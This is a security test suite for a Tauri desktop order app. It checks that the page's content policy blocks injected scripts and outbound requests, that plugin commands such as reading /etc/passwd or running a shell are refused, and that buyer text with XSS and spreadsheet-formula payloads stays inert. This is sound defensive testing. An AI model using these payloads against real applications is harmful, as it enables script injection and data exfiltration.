// What somebody could do who got a foothold in the page, or who only writes an order: whatever they try, nothing leaves the
// window, nothing of the computer is read or written that nobody chose, and an order's text stays text.
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Merchant } from '../desk/merchant.ts';
import { Spy } from '../desk/spy.ts';
import { until } from '../desk/until.ts';
import { story, type DeskWindow } from '../desk/window.ts';

/** In the page, as functions of the spy's address. What runs although it must not sets `window.__ran`. */
const ATTEMPTS: Record<string, string> = {
	'a script in the page': `put('script', { textContent: 'window.__ran = "script"' })`,
	'a script in markup': `put('div', { innerHTML: '<img src="' + spy + '/markup" onerror="window.__ran = \\'markup\\'">' })`,
	'a handler': `const box = put('div', {}); box.setAttribute('onclick', 'window.__ran = "handler"'); box.click()`,
	eval: `eval('window.__ran = "eval"')`,
	'a function of text': `new Function('window.__ran = "function"')()`,
	'text in a timer': `setTimeout('window.__ran = "timer"')`,
	'a link that runs': `put('a', { href: 'javascript:void(window.__ran = "link")', textContent: 'x' }).click()`,
	'an address that runs': `location.href = 'javascript:void(window.__ran = "address")'`,
	'a script from elsewhere': `put('script', { src: spy + '/script.js' })`,
	'a module from elsewhere': `await import(spy + '/module.js')`,
	'a worker': `new Worker(spy + '/worker.js')`,
	'a worker of text': `
		const text = new Blob(['postMessage("here")'], { type: 'text/javascript' });
		const worker = new Worker(URL.createObjectURL(text));
		worker.onmessage = () => { window.__ran = 'worker' };`,
	'a picture': `put('img', { src: spy + '/picture.png' })`,
	'a background': `put('div', { textContent: 'x' }).style.backgroundImage = 'url(' + spy + '/background.png)'`,
	'a stylesheet': `put('link', { rel: 'stylesheet', href: spy + '/style.css' })`,
	'a style': `put('style', { textContent: '@import "' + spy + '/import.css"; body { background: url(' + spy + '/style.png) }' })`,
	'a font': `await new FontFace('spy', 'url(' + spy + '/font.woff2)').load()`,
	'a film': `put('video', { src: spy + '/film.webm', autoplay: true })`,
	'a frame': `put('iframe', { src: spy + '/frame' })`,
	'a frame of text': `put('iframe', { srcdoc: '<script>parent.__ran = "frame"</' + 'script><img src="' + spy + '/srcdoc">' })`,
	'an object': `put('object', { data: spy + '/object' })`,
	'an embedded thing': `put('embed', { src: spy + '/embed' })`,
	'a question': `await fetch(spy + '/fetch', { method: 'POST', body: 'orders', mode: 'no-cors' })`,
	'an older question': `const asked = new XMLHttpRequest(); asked.open('GET', spy + '/xhr'); asked.send()`,
	'a line that stays open': `new WebSocket(spy.replace('http', 'ws') + '/socket')`,
	'a stream': `new EventSource(spy + '/stream')`,
	'a word on leaving': `navigator.sendBeacon(spy + '/beacon', 'orders')`,
	'a form': `put('form', { action: spy + '/form', method: 'post', innerHTML: '<input name="orders" value="all">' }).submit()`,
	'another base': `put('base', { href: spy + '/' }); put('img', { src: 'beside.png' })`,
	'going there': `location.href = spy + '/?orders=all'`,
	'being sent there': `put('meta', { httpEquiv: 'refresh', content: '0;url=' + spy + '/refresh' })`,
	'another window': `if (window.open(spy + '/window')) window.__ran = 'window'`,
	'a link to another window': `put('a', { href: spy + '/blank', target: '_blank', textContent: 'x' }).click()`,
	'a file for the person': `put('a', { href: spy + '/file', download: 'file', textContent: 'x' }).click()`,
};

/** Does one of them, waits for what comes of it, and takes away what was put into the page. */
const ATTEMPT = `
	const [spy, attempt] = args;
	const made = [];
	const put = (name, fields) => {
		const el = Object.assign(document.createElement(name), fields);
		made.push(el);
		document.body.append(el);
		return el;
	};
	const later = (ms) => new Promise((done) => setTimeout(done, ms));
	await Promise.race([attempts[attempt](spy, put).catch(() => undefined), later(1000)]);
	await later(150);
	const after = { ran: window.__ran ?? null, at: location.protocol, base: document.baseURI.split(':')[0] };
	for (const el of made) el.remove();
	return after;
`;

/** Commands of the program's parts that the page has no business with. */
const FORBIDDEN: [string, Record<string, unknown>][] = [
	['plugin:fs|read_file', { path: '/etc/passwd' }],
	['plugin:fs|write_text_file', { path: '/tmp/quayside-was-here', contents: 'x' }],
	['plugin:shell|execute', { program: 'id', args: [], options: {} }],
	['plugin:shell|open', { path: 'https://example.com' }],
	['plugin:opener|open_url', { url: 'https://example.com' }],
	['plugin:opener|open_path', { path: '/etc/passwd' }],
	['plugin:http|fetch', { clientConfig: { method: 'GET', url: 'https://example.com', headers: [], data: null } }],
	['plugin:dialog|open', { options: {} }],
	['plugin:dialog|save', { options: {} }],
	['plugin:dialog|message', { message: 'Type your password' }],
	['plugin:window|create', { options: { label: 'second' } }],
	['plugin:webview|create_webview_window', { options: { label: 'second', url: 'https://example.com' } }],
	['plugin:webview|create_webview', { windowLabel: 'main', options: { label: 'second', url: 'https://example.com' } }],
	['plugin:event|emit', { event: 'changed', payload: null }],
	['plugin:path|resolve_directory', { directory: 1 }],
	['plugin:autostart|enable', {}],
	['plugin:window-state|save_window_state', { flags: 0 }],
	['plugin:process|exit', { code: 0 }],
	['plugin:image|from_path', { path: '/etc/passwd' }],
];

story('Nothing leaves the window, whatever runs in its page', async (stage) => {
	const spy = await Spy.open();
	try {
		const desk = await stage.open();
		await desk.isReady();
		await desk.session.run(`
			window.__violated = [];
			document.addEventListener('securitypolicyviolation', (told) => window.__violated.push(told.effectiveDirective));
		`);
		// The policy lets no text become a program: the driver brings them as programs.
		const programs = Object.entries(ATTEMPTS).map(
			([name, text]) => `${JSON.stringify(name)}: async (spy, put) => { ${text} }`,
		);
		for (const attempt of Object.keys(ATTEMPTS)) {
			const after = await desk.session.wait(
				`const attempts = { ${programs.join(',\n')} };${ATTEMPT}`,
				spy.url,
				attempt,
			);
			expect.soft(after, attempt).toEqual({ ran: null, at: 'tauri:', base: 'tauri' });
			expect.soft(spy.hits, attempt).toEqual([]);
		}
		// It was the policy, not chance.
		const violated = await desk.session.run<string[]>('return [...new Set(window.__violated)]');
		for (const directive of ['script-src', 'img-src', 'connect-src']) {
			expect
				.soft(
					violated.some((each) => each.startsWith(directive)),
					`${directive} of ${violated}`,
				)
				.toBe(true);
		}
		await desk.person.sees('One desk for every order');
		expect(spy.hits).toEqual([]);
	} finally {
		spy.close();
	}
});

story('The page commands nothing but the desk, and names no file that nobody chose', async (stage) => {
	const folder = stage.folder();
	const desk = await stage.open({ env: { QUAYSIDE_CHOSEN_IN: folder } });
	await desk.isReady();
	for (const [command, args] of FORBIDDEN) {
		expect.soft(await refused(desk, command, args), command).toMatch(/not allowed/i);
	}
	expect(existsSync('/tmp/quayside-was-here')).toBe(false);

	const path = join(folder, 'nobody-chose.csv');
	const from = { text: '', path: '/etc/passwd' };
	const plan = { on: false, folder, minute: 360, kinds: [], forms: ['csv'], since_ms: 0 };
	const schedule = {
		...{ id: '', on: false, kind: 'performance', cadence: { each: 'day' }, minute: 360, zone: '' },
		...{ window: 'yesterday', folder, forms: ['csv'], ways: [] },
	};
	const ask = { kind: 'unfulfilled', from_day: '', to_day: '' };
	const named: [string, Record<string, unknown>][] = [
		['save_report', { ask, form: 'csv', table: 'orders', path }],
		['export_by_hand', { cause: 'enter_by_hand', path, withAddresses: true }],
		['forget_customer', { who: 'anna@example.org', orders: [1], path }],
		['export_customer', { who: 'anna@example.org', orders: [1], path }],
		['save_evidence', { id: 1, withAddresses: true, path }],
		['export_sku_aliases', { path }],
		['import_sku_aliases', { path: '/etc/passwd', write: false }],
		['backup', { path, passPhrase: 'a long pass phrase' }],
		['restore', { path: '/etc/passwd', passPhrase: 'a long pass phrase' }],
		['save_bundle', { path }],
		['save_labels', { picks: [], form: 'pdf', folder }],
		['profile_import', { platform: 'orderez', from }],
		['csv_preview', { id: 'any', from }],
		['import_csv', { id: 'any', from, mapping: { columns: {} } }],
		['export_mapping_set', { set: null, path }],
		['import_mapping_set', { from, agreed: null }],
		['put_report_plan', { plan }],
		['put_report_schedule', { schedule }],
	];
	const nobodyChose = async () => {
		for (const [command, args] of named) {
			expect.soft(await refused(desk, command, args), command).toMatch(/was not chosen/);
		}
		expect(existsSync(path)).toBe(false);
	};
	await nobodyChose();

	// What was chosen is written once, and nothing beside it.
	const chosen = await desk.asks<string>('pick_file', { wish: 'save', suggested: '/elsewhere/aliases.csv' });
	expect(chosen).toBe(join(folder, 'aliases.csv'));
	await nobodyChose();
	await desk.asks('export_sku_aliases', { path: chosen });
	expect(readFileSync(chosen, 'utf8')).toMatch(/^\uFEFF?store,by,/);
	expect(await refused(desk, 'export_sku_aliases', { path: chosen })).toMatch(/was not chosen/);
	expect(await refused(desk, 'import_sku_aliases', { path: chosen, write: false })).toMatch(/was not chosen/);
	const opened = await desk.asks<string>('pick_file', { wish: 'open', suggested: 'aliases.csv' });
	await desk.asks('import_sku_aliases', { path: opened, write: false });
	const inside = await desk.asks<string>('pick_file', { wish: 'folder', suggested: '' });
	await desk.asks('put_report_plan', { plan: { ...plan, folder: inside } });
	await desk.asks('put_report_plan', { plan: { ...plan, folder: inside } });
});

/** What buyers write, and the part of it that has to stand on the page as it is. */
const hostile = (spy: string): { words: string; stands: string }[] =>
	[
		['=1+1', `<img class="foreign" src="${spy}/picture" onerror="window.__ran=1">`],
		['', `"><script class="foreign">window.__ran=2</script>`],
		['@SUM(1)', `' onmouseover='window.__ran=3' class='foreign`],
		['+1', `{{constructor.constructor('window.__ran=4')()}}<iframe class="foreign" src="${spy}/frame"></iframe>`],
		['-1\u202edetrever\u202c\u0007\u001b[31m', `<svg class="foreign" onload="window.__ran=5"></svg>`],
		['\t=1|cmd', `<a class="foreign" href="javascript:window.__ran=6">x</a>`],
	].map(([before = '', stands = '']) => ({ words: before + stands, stands }));

const PLACES = [
	'home',
	'queue',
	'unfulfilled',
	'exceptions?view=needs_me',
	'exceptions?view=waiting',
	'shipments',
	'returns?part=all',
	'stock',
	'reports?kind=unfulfilled',
	'activity?tab=accounts',
	'activity?tab=outbox',
	'activity?tab=asked',
	'activity?tab=history',
	'activity?tab=notified',
	'automations?tab=aliases',
	'wall',
];

/** In the page: what a buyer would have put there. */
const FOREIGN = `
	const all = [...document.querySelectorAll('*')];
	const handled = (el) => el.getAttributeNames().some((name) => name.startsWith('on'));
	const runs = (el) => el.tagName === 'A' && /^\\s*javascript:/i.test(el.getAttribute('href') ?? '');
	const framed = (el) => ['IFRAME', 'OBJECT', 'EMBED', 'BASE'].includes(el.tagName);
	const found = all.filter((el) => el.classList.contains('foreign') || handled(el) || runs(el) || framed(el));
	return [...found.map((el) => el.outerHTML.slice(0, 200)), ...(window.__ran === undefined ? [] : ['ran: ' + window.__ran])];
`;

story(
	'What a buyer writes stays text, on every screen and in every file',
	async (stage) => {
		const spy = await Spy.open();
		const merchant = await Merchant.open(stage.folder(), '--quiet', '--faults', 'none', '--platforms', 'none');
		try {
			const folder = stage.folder();
			const profile = stage.folder();
			merchant.connectTo(profile);
			const desk = await stage.open({ profile, env: { QUAYSIDE_CHOSEN_IN: folder } });
			await desk.isReady();
			const texts = hostile(spy.url);
			const bought: { number: string; stands: string }[] = [];
			const buys = async (stands: string, more: { words: string; shown_sku?: string; street?: string }) =>
				bought.push({ stands, number: await merchant.buys({ account: 'harbour-goods', sku: 'BAL-BEE', ...more }) });
			for (const { words, stands } of texts) await buys(stands, { words, shown_sku: words });
			// Nobody can send this one anywhere: it needs a person.
			for (const { words, stands } of texts.slice(0, 1)) await buys(stands, { words, street: '' });
			await desk.asks('go_live', { id: 'orders_to_hub', mode: 'auto', fromMs: null });

			const ids = new Map<string, number>();
			for (const { number } of bought) {
				const id = await until(
					`${number} to be on its way to the hub, or to need somebody`,
					async () => {
						await desk.asks('sync_now', { scope: { what: 'everything' } });
						return decided(desk, number);
					},
					{ within_ms: 120_000, every_ms: 3_000 },
				);
				ids.set(number, id);
			}
			const foreign: string[] = [];
			const look = async (name: string) => {
				await desk.settles();
				foreign.push(...(await desk.session.run<string[]>(FOREIGN)).map((each) => `${name}: ${each}`));
			};
			for (const place of PLACES) {
				await desk.goes(place);
				await look(place);
			}
			const { groups } = await desk.asks<{ groups: { cause: string }[] }>('exceptions', {
				ask: { view: 'needs_me', cause: null, text: '' },
			});
			expect(groups.length).toBeGreaterThan(0);
			for (const { cause } of groups) {
				await desk.goes(`exceptions?page=${cause}`);
				await desk.shows('cause-page');
				await look(`the cause ${cause}`);
			}

			// The names stand in the list, and each order says what its buyer wrote.
			await desk.goes('queue');
			for (const { number, stands } of bought) await says(desk, 'queue', stands, number);
			await desk.shot('locked-queue');
			for (const { number, stands } of bought) {
				await desk.goes(`queue?order=${ids.get(number)}`);
				await says(desk, 'drawer', stands, number);
				await look(number);
				for (const tab of ['sides', 'links', 'raw']) {
					await desk.session.run(`document.querySelector('[data-testid="tab-${tab}"]')?.click()`);
					await look(`${number}, ${tab}`);
				}
			}
			await desk.shot('locked-order');
			for (const { words } of texts) {
				await desk.goes(`queue?q=${encodeURIComponent(words)}`);
				await look(`a search for ${words}`);
			}

			// A file is opened by a spreadsheet, and a spreadsheet runs what begins like a formula.
			for (const { words } of texts) {
				const alias = { store: null, by: 'sku', theirs: words, parts: [{ sku: 'BAL-BEE', quantity: 1 }] };
				await desk.asks('put_sku_alias', { alias, replaces: null });
			}
			await desk.goes('automations?tab=aliases');
			await look('the aliases');
			const save = async (name: string, command: string, args: Record<string, unknown>) => {
				const path = await desk.asks<string>('pick_file', { wish: 'save', suggested: name });
				await desk.asks(command, { ...args, path });
				const cells = cellsOf(readFileSync(path, 'utf8'));
				expect.soft(cells.filter(isRun), name).toEqual([]);
				return cells;
			};
			const aliases = await save('aliases.csv', 'export_sku_aliases', {});
			for (const { words } of texts.filter((each) => /^[=+@-]/.test(each.words))) {
				expect
					.soft(
						aliases.some((cell) => cell.startsWith(`'${words.slice(0, 2)}`)),
						words,
					)
					.toBe(true);
			}
			const ask = { kind: 'unfulfilled', from_day: '', to_day: '' };
			await save('unfulfilled.csv', 'save_report', { ask, form: 'csv', table: 'orders' });

			expect(foreign).toEqual([]);
			expect(spy.hits).toEqual([]);
		} finally {
			merchant.close();
			spy.close();
		}
	},
	600_000,
);

/** How the shell refuses a command; nothing if it did what was asked. */
function refused(desk: DeskWindow, command: string, args: Record<string, unknown>): Promise<string> {
	return desk.session.wait<string>(
		`try {
			await window.__TAURI_INTERNALS__.invoke(args[0], args[1]);
			return '';
		} catch (refusal) {
			return refusal?.sentence ?? String(refusal);
		}`,
		command,
		args,
	);
}

/** The order's id, once something was decided about it. */
async function decided(desk: DeskWindow, number: string): Promise<number | undefined> {
	const ask = { view: 'all', text: '', sort: 'placed', descending: true, after: null, skip: 0, limit: 100 };
	const { rows } = await desk.asks<{ rows: { id: number; number: string }[] }>('queue', { ask });
	const id = rows.find((row) => row.number === number)?.id;
	if (id === undefined) return undefined;
	const { effects, exceptions } = await desk.asks<{ effects: unknown[]; exceptions: unknown[] }>('order', { id });
	return effects.length + exceptions.length > 0 ? id : undefined;
}

/** Waits until the text stands there, letter by letter. */
async function says(desk: DeskWindow, testid: string, text: string, number: string): Promise<void> {
	await until(
		`${testid} to say ${text} of ${number}`,
		() =>
			desk.session.run<boolean>(
				`return document.querySelector('[data-testid="' + arguments[0] + '"]')?.textContent.includes(arguments[1]) ?? false`,
				testid,
				text,
			),
		{ otherwise: () => desk.person.readsThePage() },
	);
}

/** Cells of a CSV, as they stand between their quotes. */
function cellsOf(csv: string): string[] {
	const cells = csv.replace(/^\uFEFF/, '').matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g);
	return [...cells].map((cell) => (cell[1] ?? cell[2] ?? '').replaceAll('""', '"'));
}

/** Whether a spreadsheet would run it. A number is a number. */
const isRun = (cell: string) => /^[=+\-@\t\r\n＝＋－＠]/.test(cell) && !/^-?\d+([.,]\d+)?$/.test(cell);
